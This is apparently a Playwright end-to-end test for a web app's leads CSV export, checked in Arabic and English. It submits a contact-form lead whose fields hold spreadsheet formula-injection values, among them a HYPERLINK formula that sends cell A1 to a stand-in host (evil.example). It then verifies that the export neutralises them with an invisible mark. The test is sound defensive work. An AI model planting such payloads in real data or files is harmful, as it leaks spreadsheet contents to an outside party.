import { expect, type Browser } from "@playwright/test";
import { test } from "./support/test";
import { readFile } from "node:fs/promises";
import { signInThroughApi } from "./support/auth";
import { E2E_BASE_URL } from "./support/constants";

/**
 * A lead sent as the contact form sends it: with a token from the page, after the minimum time a
 * person takes. (Token-less posts go to a spam folder whose room other tests may have used up.)
 */
async function postLead(browser: Browser, lead: Record<string, string>, ip: string) {
  const context = await browser.newContext();
  const html = await (await context.request.get("/contact")).text();
  const token = /\d{13}\.[\w-]{12}\.[\w-]{43}/.exec(html)?.[0];
  expect(token, "the contact page carries a form token").toBeTruthy();
  await new Promise((resolve) => setTimeout(resolve, 3_200));
  const response = await context.request.post("/api/contact", {
    headers: { origin: E2E_BASE_URL, "content-type": "application/json", "x-forwarded-for": ip },
    data: { country: "KW", service: "erp", consent: true, locale: "ar", page: "/contact", token, ...lead },
  });
  expect(response.status(), await response.text()).toBe(201);
  await context.close();
}

/** Splits CSV text (every field quoted, CRLF rows) into rows of cells. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let index = 0; index < text.length; index++) {
    const char = text[index]!;
    if (quoted) {
      if (char === '"' && text[index + 1] === '"') {
        cell += '"';
        index++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ",") {
      row.push(cell);
      cell = "";
    } else if (char === "\r" && text[index + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      index++;
    } else cell += char;
  }
  return rows;
}

/** Riyadh wall-clock time of an instant, as the export writes it. */
const riyadh = (time: number) =>
  `${new Date(time + 3 * 3_600_000).toISOString().slice(0, 16).replace("T", " ")} +03:00`;

const LRM = "\u200E";

test("the leads export is readable in the staff member's language and defuses formulas without apostrophes", async ({
  browser,
}) => {
  const unique = Date.now().toString(36);
  await postLead(
    browser,
    {
      name: `=HYPERLINK("https://evil.example/?d="&A1,"Click") ${unique}`,
      email: `export-${unique}@example.kw`,
      phone: "+96555123456",
      company: `-2+3 Trading ${unique}`,
      message: "@SUM(1+1) please call me back about an ERP.",
    },
    "198.51.100.231",
  );
  // The lead is stored when the form is sent, after the token's minimum age.
  const after = Date.now();
  const before = after - 60_000;

  for (const { locale, prefix, exportLabel, expected } of [
    {
      locale: "ar-SA",
      prefix: "",
      exportLabel: "تصدير CSV",
      expected: {
        header: ["الرقم", "تاريخ الاستلام", "الحالة", "رسالة مزعجة", "الاسم", "البريد الإلكتروني", "الهاتف"],
        status: "جديد",
        spam: "لا",
        country: "الكويت",
        service: "نظام تخطيط موارد المؤسسات",
        language: "العربية",
      },
    },
    {
      locale: "en-US",
      prefix: "/en",
      exportLabel: "Export CSV",
      expected: {
        header: ["ID", "Received", "Status", "Spam", "Name", "Email", "Phone"],
        status: "New",
        spam: "No",
        country: "Kuwait",
        service: "ERP System",
        language: "Arabic",
      },
    },
  ]) {
    const context = await browser.newContext({ locale, acceptDownloads: true });
    const page = await context.newPage();
    await signInThroughApi(page.request);
    await page.goto(`${prefix}/dashboard/leads?folder=new`);
    const download = page.waitForEvent("download");
    await page.getByRole("link", { name: exportLabel }).click();
    const file = await download;
    expect(file.suggestedFilename()).toMatch(/^leads-new-\d{4}-\d{2}-\d{2}\.csv$/);
    const bytes = await readFile((await file.path())!);
    // UTF-8 with a byte-order mark, so Excel shows Arabic.
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.subarray(3).toString("utf8");
    expect(text).not.toMatch(/(^|,)"'/m);

    const [header, ...rows] = parseCsv(text);
    expect(header!.slice(0, expected.header.length)).toEqual(expected.header);
    const cell = (row: string[], column: string) => row[header!.indexOf(column)];
    const row = rows.find((candidate) => candidate.some((value) => value.includes(unique)));
    expect(row, "the lead is in the export").toBeDefined();
    const [nameColumn, , phoneColumn] = expected.header.slice(4);
    const column = (index: number) => header![index]!;

    // Formulas are defused by an invisible mark, never by a visible apostrophe.
    expect(cell(row!, nameColumn!)).toBe(`${LRM}=HYPERLINK("https://evil.example/?d="&A1,"Click") ${unique}`);
    expect(cell(row!, phoneColumn!)).toBe(`${LRM}+96555123456`);
    expect(row!.find((value) => value.includes("Trading"))).toBe(`${LRM}-2+3 Trading ${unique}`);
    expect(row!.find((value) => value.includes("SUM"))).toBe(`${LRM}@SUM(1+1) please call me back about an ERP.`);
    for (const value of row!) expect(value).not.toMatch(/^[=+\-@\t\r]/);

    // Readable values in the staff member's language; the time in Riyadh with its offset.
    expect(cell(row!, column(2))).toBe(expected.status);
    expect(cell(row!, column(3))).toBe(expected.spam);
    expect(row).toContain(expected.country);
    expect(row).toContain(expected.service);
    expect(row).toContain(expected.language);
    const received = cell(row!, column(1))!;
    expect(received).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2} \+03:00$/);
    expect(received >= riyadh(before) && received <= riyadh(after), received).toBe(true);
    expect(text).not.toMatch(/\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d+)?Z/);
    await context.close();
  }
});
